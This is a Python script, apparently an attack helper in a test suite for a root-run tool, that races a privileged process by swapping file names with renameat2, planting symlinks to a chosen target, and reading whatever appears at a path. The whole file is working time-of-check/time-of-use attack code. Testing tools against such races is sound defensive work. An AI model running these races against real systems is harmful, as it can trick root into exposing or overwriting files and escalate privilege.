#!/usr/bin/env python3
"""Exchanges names in a loop, as somebody would who wants to trick root between two looks.

    attacker.py swap A B [PAUSE]    renameat2(A, B, RENAME_EXCHANGE), over and over, with a pause in microseconds: one as
                                    long as root needs between its two looks wins most often
    attacker.py plant TARGET NAME   puts a symbolic link to TARGET in NAME's place, and back, over and over
    attacker.py hold NAME           opens what is at NAME whenever it can be opened, and prints what it could read

Each runs until it is killed (SIGTERM) or for PITOOL_ATTACK_SECONDS, and prints the number of exchanges at the end. Nothing
here needs root: run it as the user whose directory it is (`setpriv --reuid USER --clear-groups`, runuser(1)).
"""
import ctypes
import os
import signal
import sys
import time

AT_FDCWD = -100
RENAME_EXCHANGE = 2

libc = ctypes.CDLL(None, use_errno=True)


def exchange(a, b):
    """renameat2(2), which glibc has since 2.28; False where one of the names is not there at this moment."""
    return libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0


def swap(a, b, pause="0"):
    a, b, pause = os.fsencode(a), os.fsencode(b), int(pause) / 1e6

    def once():
        if pause:
            time.sleep(pause)
        return exchange(a, b)

    return once


def plant(target, name):
    """A link of its own each time, since root may replace or remove the one that was there."""
    link = f"{name}.planted"

    def once():
        try:
            os.symlink(target, link)
        except FileExistsError:
            pass
        if not exchange(os.fsencode(link), os.fsencode(name)):
            # Nothing to exchange with: simply be there first.
            os.rename(link, name)
            return True
        return exchange(os.fsencode(link), os.fsencode(name))

    return once


def hold(name):
    def once():
        try:
            fd = os.open(name, os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
        except OSError:
            return False
        try:
            print("read:", os.read(fd, 200), flush=True)
        except OSError:
            pass
        finally:
            os.close(fd)
        return True

    return once


def main():
    ways = {"swap": (swap, (2, 3)), "plant": (plant, (2,)), "hold": (hold, (1,))}
    way, counts = ways.get(sys.argv[1] if len(sys.argv) > 1 else "", (None, ()))
    if len(sys.argv) - 2 not in counts:
        sys.exit(__doc__)
    stopped = []
    signal.signal(signal.SIGTERM, lambda *_: stopped.append(True))
    until = time.monotonic() + float(os.environ.get("PITOOL_ATTACK_SECONDS", "600"))
    once = way(*sys.argv[2:])
    done = 0
    while not stopped and time.monotonic() < until:
        # The clock is asked rarely: the loop is to be fast.
        for _ in range(100):
            if stopped:
                break
            try:
                done += bool(once())
            except OSError:
                pass
    print(done)


if __name__ == "__main__":
    main()
